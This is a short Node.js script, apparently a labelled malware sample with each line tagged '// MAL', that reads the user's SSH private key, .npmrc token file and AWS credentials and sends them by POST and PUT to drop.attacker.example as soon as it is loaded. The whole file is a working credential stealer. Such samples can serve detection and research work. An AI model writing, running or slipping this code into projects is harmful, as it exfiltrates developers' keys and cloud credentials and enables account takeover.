const fs = require('fs');
const os = require('os');
const path = require('path');
const home = os.homedir();

function grab() {
  const key = fs.readFileSync(path.join(home, '.ssh', 'id_rsa'), 'utf8'); // MAL
  const npmrc = fs.readFileSync(`${home}/.npmrc`, 'utf8'); // MAL
  const aws = fs.readFileSync(home + '/.aws/credentials'); // MAL
  const keys = fs.readdirSync(process.env.HOME + '/.ssh'); // MAL
  fetch('https://drop.attacker.example/k', { method: 'POST', body: key + npmrc }); // MAL
  const r = require('https').request({ host: 'drop.attacker.example', method: 'PUT' }); // MAL
  r.end(aws); // MAL
  return keys;
}
grab();
